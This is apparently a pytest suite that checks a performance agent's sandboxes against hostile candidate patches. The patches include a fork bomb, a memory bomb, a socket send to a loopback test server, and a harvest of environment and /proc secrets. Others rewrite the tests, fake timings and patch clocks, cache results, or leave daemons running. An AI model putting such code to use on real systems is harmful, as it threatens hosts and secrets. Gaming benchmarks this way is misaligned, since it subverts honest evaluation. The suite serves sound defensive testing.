"""Candidate patches that attack the sandbox, run against every sandbox kind.

Each case is a patch (a hostile `pkg/work.py`) that tries one attack while the benchmark or the
tests run. Every case must end with a recorded status naming the cause (ExecResult fields), leave
the sandbox usable for the next command, leave the host unchanged, and never look like a result
that could be accepted. Without a Docker engine the docker cases skip loudly, except under
`PERFAGENT_REQUIRE_DOCKER=1` (CI), where they fail.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import textwrap
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from sandbox.base import ExecResult, Limits, Sandbox, SandboxFactory, WorkspaceSpec

pytestmark = [pytest.mark.slow]

TARGET = {
    "pkg/__init__.py": "",
    "pkg/work.py": "def compute(n):\n    return sum(i * i for i in range(n))\n",
    "bench.py": ("import sys\nfrom pkg.work import compute\n\nprint('result', compute(20_000))\n"),
    "tests/test_work.py": (
        "import sys\n"
        "sys.path.insert(0, '.')\n"
        "from pkg.work import compute\n\n\n"
        "def test_compute():\n"
        "    assert compute(10) == 285\n\n\n"
        "if __name__ == '__main__':\n"
        "    test_compute()\n"
        "    print('tests passed')\n"
    ),
}
PROTECTED = ("**/tests/**", "**/conftest.py", "bench.py")
TEST_CMD = "python tests/test_work.py"
BENCH_CMD = "python bench.py"
LIMITS = Limits(
    timeout_s=60,
    memory_bytes=256 * 1024**2,
    max_processes=64,
    max_output_bytes=64 * 1024,
)


def docker_factory_or_skip(tmp_root: Path) -> SandboxFactory:
    """A Docker factory, or a skip (a failure under PERFAGENT_REQUIRE_DOCKER=1)."""
    from sandbox.base import SandboxError
    from sandbox.docker import DockerConfig, DockerSandboxFactory

    try:
        return DockerSandboxFactory.from_environment(DockerConfig(tmp_root=tmp_root))
    except SandboxError as exc:
        if os.environ.get("PERFAGENT_REQUIRE_DOCKER") == "1":
            pytest.fail(f"PERFAGENT_REQUIRE_DOCKER=1 but Docker is unusable: {exc}")
        pytest.skip(f"SKIPPED LOUDLY: no Docker engine ({exc}); run .ci/provision-docker as root")


@pytest.fixture(params=["local", "docker"])
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def attack_factory(kind: str, tmp_path: Path) -> SandboxFactory:
    if kind == "docker":
        return docker_factory_or_skip(tmp_path / "trees")
    from sandbox.local import LocalSandboxConfig, LocalSandboxFactory

    return LocalSandboxFactory(LocalSandboxConfig(tmp_root=tmp_path / "trees"))


@pytest.fixture
def target(make_repo: Callable[..., Path]) -> Path:
    return make_repo(TARGET, name="target")


@pytest.fixture
def candidate(attack_factory: SandboxFactory, target: Path) -> Iterator[Callable[[str], Sandbox]]:
    """`candidate(work_py)` opens a sandbox whose patch replaces pkg/work.py with `work_py`."""
    opened: list[Sandbox] = []

    def make(work_py: str) -> Sandbox:
        spec = WorkspaceSpec(
            repo=target,
            ref="HEAD",
            files={"pkg/work.py": work_py},
            protected=PROTECTED,
            name="attack",
        )
        sb = attack_factory.open(spec, LIMITS)
        opened.append(sb)
        return sb

    yield make
    for sb in opened:
        sb.close()


@pytest.fixture
def marker() -> str:
    """A unique token an attack embeds in argv, file names or secrets, to find traces of it."""
    return f"pa{secrets.token_hex(6)}"


def live_processes_with(text: str) -> list[int]:
    """Pids (host-wide, containers included) whose command line contains `text`."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ")
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if text.encode() in cmdline and state != "Z":
            found.append(int(entry))
    return found


def _continues(sb: Sandbox) -> None:
    """The sandbox still runs an ordinary command after the attack."""
    again = sb.execute("echo alive", timeout=60)
    assert again.ok and again.stdout.strip() == "alive", again


def _nothing_left(sb: Sandbox, marker: str) -> None:
    """No process of the attack is alive; in Docker at most the sandbox's warm container is
    left, running nothing but its init and idle timer."""
    assert live_processes_with(marker) == []
    if sb.kind == "docker":
        from sandbox.docker import DockerSandbox

        assert isinstance(sb, DockerSandbox)
        left = sb.client.api.containers(all=True, filters={"label": f"perfagent.sandbox={sb.id}"})
        assert len(left) <= 1
        for c in left:
            procs = sb.client.api.top(c["Id"])["Processes"]
            assert len(procs) == 2 and "--idle" in procs[-1][-1], procs


def _code(text: str, **values: object) -> str:
    code = textwrap.dedent(text)
    for key, value in values.items():
        code = code.replace(f"@{key}@", str(value))
    return code


def test_fork_bomb_is_contained(candidate: Callable[[str], Sandbox], marker: str) -> None:
    """Guards against a fork bomb taking the host down or running past its timeout."""
    sb = candidate(
        _code(
            """
            import os, time
            t = time.time()
            while time.time() - t < 120:
                try:
                    os.fork()
                except OSError:
                    pass
            """
        )
    )
    res = sb.execute(f"{BENCH_CMD} {marker}", timeout=5)
    assert not res.ok
    assert res.timed_out or "process" in res.killed_reason, res
    assert res.killed_reason
    _nothing_left(sb, marker)
    _continues(sb)


def test_infinite_loop_times_out(candidate: Callable[[str], Sandbox], marker: str) -> None:
    """Guards against a hung candidate blocking the run: killed at the timeout, status says so."""
    sb = candidate("def compute(n):\n    while True:\n        pass\n")
    res = sb.execute(f"{BENCH_CMD} {marker}", timeout=3)
    assert res.timed_out and res.returncode is None and not res.ok
    assert "timeout" in res.killed_reason
    _nothing_left(sb, marker)
    _continues(sb)


def test_memory_bomb_is_killed(candidate: Callable[[str], Sandbox], marker: str) -> None:
    """Guards against a candidate exhausting host memory: it ends non-zero, memory named."""
    sb = candidate("blocks = []\nwhile True:\n    blocks.append(b'\\x01' * (16 * 1024 * 1024))\n")
    res = sb.execute(f"{BENCH_CMD} {marker}", timeout=60)
    assert not res.ok and res.returncode != 0 and not res.timed_out
    assert "memory" in res.killed_reason.lower(), res
    _nothing_left(sb, marker)
    _continues(sb)


@pytest.fixture
def loopback_server() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on the host's 127.0.0.1 that records whatever reaches it."""
    received: list[bytes] = []
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(1024) or b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(5)
    server.close()


def test_network_is_unreachable(
    candidate: Callable[[str], Sandbox], loopback_server: tuple[int, list[bytes]]
) -> None:
    """Guards against a candidate phoning out: a server on the host's loopback stays unreached."""
    port, received = loopback_server
    sb = candidate(
        _code(
            """
            import socket
            s = socket.create_connection(("127.0.0.1", @port@), timeout=3)
            s.sendall(b"exfiltrated")
            s.close()
            def compute(n):
                return 0
            """,
            port=port,
        )
    )
    res = sb.execute(BENCH_CMD, timeout=30)
    time.sleep(0.3)
    assert received == []
    assert res.returncode != 0 and not res.ok
    assert "Connection refused" in res.stderr or "unreachable" in res.stderr.lower(), res.stderr
    _continues(sb)


def test_writes_outside_the_tree_do_not_reach_the_host(
    candidate: Callable[[str], Sandbox], marker: str, tmp_path: Path
) -> None:
    """Guards against a candidate changing host files beside or far from its work tree: each
    write is refused, or made in the sandbox's private view and listed in `writes`."""
    sentinel = tmp_path / "host" / "sentinel.txt"
    sentinel.parent.mkdir()
    sentinel.write_text("original\n")
    far = Path(f"/var/tmp/{marker}-pwned")
    sb = candidate(
        _code(
            """
            import os, sys
            root = os.getcwd()
            for path in ["@sentinel@", os.path.join(os.path.dirname(root), "@marker@.txt"),
                         "@far@", os.path.expanduser("~/../@marker@-home.txt")]:
                try:
                    with open(path, "w") as fh:
                        fh.write("pwned")
                    print("wrote", os.path.basename(path))
                except OSError as exc:
                    print(f"refused {path}: {exc}", file=sys.stderr)
            def compute(n):
                return 0
            """,
            sentinel=sentinel,
            marker=marker,
            far=far,
        )
    )
    try:
        res = sb.execute(BENCH_CMD, timeout=30)
        assert sentinel.read_text() == "original\n"
        assert not far.exists()
        assert not (sb.host_root.parent / f"{marker}.txt").exists()
        assert not list(Path(sb.host_root.parent).glob(f"*/{marker}-home.txt"))
        wrote = [line.split()[1] for line in res.stdout.splitlines() if line.startswith("wrote")]
        assert res.stderr.count("refused") + len(wrote) == 4, res
        for name in wrote:
            assert any(w.endswith("/" + name) for w in res.writes), (name, res.writes)
        _continues(sb)
    finally:
        far.unlink(missing_ok=True)


def test_host_secrets_do_not_reach_the_candidate(
    candidate: Callable[[str], Sandbox], marker: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Guards against API keys in perfagent's environment leaking to candidate code."""
    secret = f"sk-{marker}-fake"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    monkeypatch.setenv("GITHUB_TOKEN", f"ghp_{marker}")
    sb = candidate(
        _code(
            """
            import glob, os
            found = [f"{k}={v}" for k, v in os.environ.items()]
            for path in glob.glob("/proc/*/environ"):
                try:
                    found.append(open(path, "rb").read().decode(errors="replace"))
                except OSError:
                    pass
            text = "\\n".join(found)
            print(text)
            with open("pkg/leak.txt", "w") as fh:
                fh.write(text)
            for d in (os.environ.get("PERFAGENT_SCRATCH"), os.environ.get("TMPDIR")):
                if d:
                    with open(os.path.join(d, "leak.txt"), "w") as fh:
                        fh.write(text)
            def compute(n):
                return 0
            """
        )
    )
    res = sb.execute(BENCH_CMD, timeout=30, env={"MY_API_KEY": secret})
    assert res.returncode == 0, res
    assert marker not in res.stdout and marker not in res.stderr
    assert marker not in sb.diff()
    for path in sb.host_scratch.rglob("*"):
        if path.is_file():
            assert marker not in path.read_text(errors="replace")


def test_editing_tests_or_benchmark_is_refused_and_reported(
    candidate: Callable[[str], Sandbox], target: Path
) -> None:
    """Guards against a candidate passing by rewriting the tests, the benchmark or a conftest."""
    sb = candidate(
        _code(
            """
            import sys
            for path, text in [
                ("tests/test_work.py", "if __name__ == '__main__':\\n    print('tests passed')\\n"),
                ("bench.py", "print('result 0')\\n"),
                ("conftest.py", "# injected\\n"),
            ]:
                try:
                    with open(path, "w") as fh:
                        fh.write(text)
                except OSError as exc:
                    print("refused", path, exc, file=sys.stderr)
            def compute(n):
                return 0
            """
        )
    )
    res = sb.execute(f"python -c 'import pkg.work' && {TEST_CMD}", timeout=30)
    assert res.tampered, res
    assert not res.ok
    assert (sb.host_root / "tests/test_work.py").read_text() == TARGET["tests/test_work.py"]
    assert (sb.host_root / "bench.py").read_text() == TARGET["bench.py"]
    assert not (sb.host_root / "conftest.py").exists()
    again = sb.execute(TEST_CMD, timeout=30)
    assert again.returncode != 0 and "tests passed" not in again.stdout
    changed = [line for line in sb.diff().splitlines() if line.startswith("diff --git")]
    assert changed == ["diff --git a/pkg/work.py b/pkg/work.py"]


def test_fake_timings_do_not_change_the_measured_duration(
    candidate: Callable[[str], Sandbox],
) -> None:
    """Guards against a candidate faking its speed by printing timings or patching clocks."""
    sb = candidate(
        _code(
            """
            import json, os, sys, time
            _sleep = time.sleep
            print(json.dumps({"duration_s": 0.0001, "returncode": 0, "timed_out": False}))
            print("real 0m0.001s\\n==1== I   refs:      1", file=sys.stderr)
            for path in ("/.perfagent-out/status.json", "/perfagent/job.json"):
                try:
                    with open(path, "w") as fh:
                        fh.write('{"duration_s": 0.0001}')
                except OSError:
                    pass
            time.perf_counter = time.monotonic = time.time = lambda: 0.0
            def compute(n):
                _sleep(0.6)
                return 0
            """
        )
    )
    res = sb.execute(BENCH_CMD, timeout=30)
    assert res.ok, res
    # The sandbox's own clock saw the 0.6 s sleep whatever the candidate printed or patched.
    assert res.duration_s >= 0.6


def test_caching_across_benchmark_runs_gains_nothing(candidate: Callable[[str], Sandbox]) -> None:
    """Guards against a candidate that memoizes results on disk between benchmark runs: each
    run starts from a clean state, and every cache it wrote is listed. (The file name is new
    for each test run: the local sandbox shows the host's own /tmp read-only beneath its
    overlay, so a file some other program left there would be a hit it did not cause.)"""
    token = uuid.uuid4().hex[:12]
    sb = candidate(
        _code(
            """
            import json, os
            DIRS = [d for d in ("/tmp", "/var/tmp", os.environ.get("TMPDIR"), os.environ.get("HOME"),
                                os.environ.get("PERFAGENT_SCRATCH"),
                                os.path.dirname(os.environ.get("HOME", "/"))) if d]
            def compute(n):
                for d in DIRS:
                    try:
                        with open(os.path.join(d, "perfagent-cache-TOKEN.json")) as fh:
                            print("HIT")
                            return json.load(fh)
                    except (OSError, ValueError):
                        pass
                value = sum(i * i for i in range(n))
                for d in DIRS:
                    try:
                        with open(os.path.join(d, "perfagent-cache-TOKEN.json"), "w") as fh:
                            json.dump(value, fh)
                    except OSError:
                        pass
                print("MISS")
                return value
            """.replace("TOKEN", token)
        )
    )
    runs = [sb.execute(BENCH_CMD, timeout=30) for _ in range(3)]
    assert all(r.ok for r in runs), runs
    assert [r.stdout.splitlines()[0] for r in runs] == ["MISS"] * 3
    assert all(any(w.endswith(f"perfagent-cache-{token}.json") for w in r.writes) for r in runs)
    assert not any(w.startswith(sb.scratch) for r in runs for w in r.writes)


def test_stdout_flood_is_truncated(candidate: Callable[[str], Sandbox]) -> None:
    """Guards against a candidate flooding output to exhaust memory or disk of the host."""
    sb = candidate(
        _code(
            """
            import sys
            chunk = "x" * (1 << 20)
            for _ in range(64):
                sys.stdout.write(chunk)
            sys.stdout.flush()
            def compute(n):
                return 0
            """
        )
    )
    res: ExecResult = sb.execute(BENCH_CMD, timeout=60)
    assert res.output_truncated
    assert len(res.stdout.encode()) <= 64 * 1024
    _continues(sb)


def test_processes_left_running_are_killed_and_reported(
    candidate: Callable[[str], Sandbox], marker: str
) -> None:
    """Guards against a candidate leaving a daemon behind (to cache or to skew later runs)."""
    sb = candidate(
        _code(
            """
            import os, subprocess
            subprocess.Popen(["sh", "-c", "sleep 1000; : @marker@"], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execvp("sh", ["sh", "-c", "sleep 1001; : @marker@"])
                os._exit(0)
            def compute(n):
                return 0
            """,
            marker=marker,
        )
    )
    res = sb.execute(BENCH_CMD, timeout=30)
    assert res.returncode == 0
    time.sleep(0.2)
    _nothing_left(sb, marker)
    if sb.kind == "docker":
        assert "left" in res.killed_reason and "sh" in res.killed_reason, res
    _continues(sb)
